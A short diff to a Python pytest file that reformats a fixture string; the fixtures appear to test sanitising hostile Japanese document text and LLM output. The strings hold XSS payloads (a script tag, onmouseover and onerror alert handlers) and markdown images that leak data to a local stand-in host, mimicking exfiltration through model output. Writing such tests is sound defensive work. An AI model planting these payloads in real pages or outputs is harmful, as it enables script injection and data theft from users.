@@ -101,7 +101,8 @@ HOSTILE_DOC = (
     "詳細は<a href=\"/x\">こちら</a>を参照し、![x](http://127.0.0.1:9/md.png?q=leak)の画像を見る。\n"
     "<script>window.__pwned = 1</script>危険な目標値の根拠は<b onmouseover=\"alert(1)\">前年度実績</b>である。\n"
 )
-HOSTILE_LLM = "危険な目標値は５件以上です[1]。![x](http://127.0.0.1:9/exfil.png?q=危険な目標値) <img src=/x onerror=alert(1)>"
+HOSTILE_LLM = ("危険な目標値は５件以上です[1]。![x](http://127.0.0.1:9/exfil.png?q=危険な目標値) "
+               "<img src=/x onerror=alert(1)>")
 
 
 @pytest.fixture(scope="module")
